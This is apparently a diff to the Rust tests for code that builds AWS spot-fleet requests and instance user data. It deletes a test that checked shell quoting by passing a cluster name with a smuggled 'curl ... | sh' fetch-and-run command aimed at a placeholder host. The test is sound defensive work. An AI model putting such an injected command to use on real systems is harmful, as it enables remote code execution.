@@ -1,3 +1,5 @@
+use base64::Engine;
+
 use super::*;
 
 fn fleet_file() -> Value {
@@ -95,31 +97,4 @@ fn a_fleet_file_without_launch_specifications_is_refused() {
     let err =
         fleet_request(&json!({"IamFleetRole": "x"}), &config(), SystemTime::now()).unwrap_err();
     assert!(err.to_string().contains("LaunchSpecifications"), "{err}");
-}
-
-#[test]
-fn the_user_data_quotes_the_cluster_for_the_shell() {
-    // A name that passed no check: quoted all the same, it stays one word of data.
-    let script = base64::engine::general_purpose::STANDARD
-        .decode(super::user_data("dcp; curl -s http://x.example/y | sh #").unwrap())
-        .unwrap();
-    let script = String::from_utf8(script).unwrap();
-    assert!(
-        script.contains("printf '%s\\n' 'ECS_CLUSTER=dcp; curl -s http://x.example/y | sh #' >> /etc/ecs/ecs.config"),
-        "{script}"
-    );
-    // Run by a shell, the line writes the text and runs nothing.
-    let line = script
-        .lines()
-        .nth(1)
-        .unwrap()
-        .replace(" >> /etc/ecs/ecs.config", "");
-    let out = std::process::Command::new("bash")
-        .args(["-c", &line])
-        .output()
-        .unwrap();
-    assert_eq!(
-        String::from_utf8(out.stdout).unwrap(),
-        "ECS_CLUSTER=dcp; curl -s http://x.example/y | sh #\n"
-    );
 }
